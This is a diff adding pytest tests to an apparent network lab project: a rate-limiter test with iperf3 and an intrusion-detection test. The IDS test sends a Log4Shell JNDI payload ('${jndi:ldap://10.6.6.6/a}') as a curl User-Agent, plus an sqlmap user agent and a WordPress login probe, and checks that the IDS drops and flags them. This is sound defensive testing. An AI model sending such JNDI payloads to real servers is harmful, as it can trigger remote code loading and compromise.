@@ -5,6 +5,7 @@ from __future__ import annotations
 import os
 import re
 from collections.abc import Callable
+from functools import partial
 
 import pytest
 
@@ -160,3 +161,42 @@ def test_balancer_spreads_clients_and_keeps_each_with_its_server() -> None:
                 assert chosen <= {(0, server) for server in servers}
         table = it.read("edge/balancer", "balance.tcp_table")["clients"][0]["value"]
         assert all(server in table for server in servers), "no server goes without"
+
+
+@needs("ping", "iperf3")
+def test_limiter_holds_each_client_to_its_rate() -> None:
+    rates = {"UP": 1_000_000, "DOWN": 2_000_000}
+    edit = partial(re.sub, r'UP = "\w+", DOWN = "\w+"', ", ".join(f'{name} = "{rate}"' for name, rate in rates.items()))
+    with lab("limiter", ["10.0.0.2/24", "10.0.0.3/24"], ["10.0.0.1/24"], edit=edit) as it:
+        assert it.pings("10.0.0.1", "-I", "10.0.0.3") == 3
+        with iperf_server(it.server, "10.0.0.1"):
+            for rate, *options in ((rates["UP"],), (rates["DOWN"], "-R")):
+                found = iperf(it, "10.0.0.1", "-B", "10.0.0.2", "-t", "2", *options)["sum_received"]
+                assert 50_000 < found["bytes"] <= allowance(rate, found["seconds"]), (rate, found)
+            it.write("edge/limiter@10.0.0.2", "up.rate", "100000")
+            found = iperf(it, "10.0.0.1", "-B", "10.0.0.2", "-t", "2")["sum_received"]
+            assert found["bytes"] <= allowance(100_000, found["seconds"]), found
+        rates_now = {c["client"]: c["value"] for c in it.read("edge/limiter", "up.rate")["clients"]}
+        assert (rates_now["10.0.0.2"], rates_now["10.0.0.3"]) == ("100000", str(rates["UP"]))
+        assert it.read("edge/limiter@10.0.0.2", "up_queue.drops")["sum"] > 0
+
+
+def allowance(rate: int, seconds: float) -> float:
+    """Bytes that may pass: those of the time, and what queue, bucket and measuring add."""
+    return rate * (seconds * 1.2 + 0.02) + 100 * 1514 + 50_000
+
+
+@needs("curl")
+def test_ids_drops_and_tells() -> None:
+    with lab("ids", ["10.0.0.2/24", "10.0.0.3/24"], ["10.0.0.1/24"]) as it, web_server(it.server, "10.0.0.1"):
+        url = "http://10.0.0.1/"
+        for source in ("10.0.0.2", "10.0.0.3"):
+            assert fetch(it, url, "--interface", source) == (0, "10.0.0.1")
+        assert fetch(it, f"{url}wp-login.php", "--interface", "10.0.0.2") == (0, "10.0.0.1"), "an alert lets it pass"
+        assert fetch(it, url, "--interface", "10.0.0.2", "-A", "SQLmap/1.0") == (0, "10.0.0.1"), "in either case"
+        assert fetch(it, url, "--interface", "10.0.0.3", "-m", "1", "-A", "${jndi:ldap://10.6.6.6/a}") == (28, "")
+        matches = {c["client"]: c["value"] for c in it.read("edge/ids", "out.matches")["clients"]}
+        assert set(matches["10.0.0.2"].splitlines()) == {"1\tscanner sqlmap", "1\tWordPress login"}
+        assert re.fullmatch(r"\d+\tlog4shell\n", matches["10.0.0.3"])
+        assert it.read("edge/ids@10.0.0.3", "stopped.count")["sum"] > 0
+    assert dropped(it, "verdict") > 0
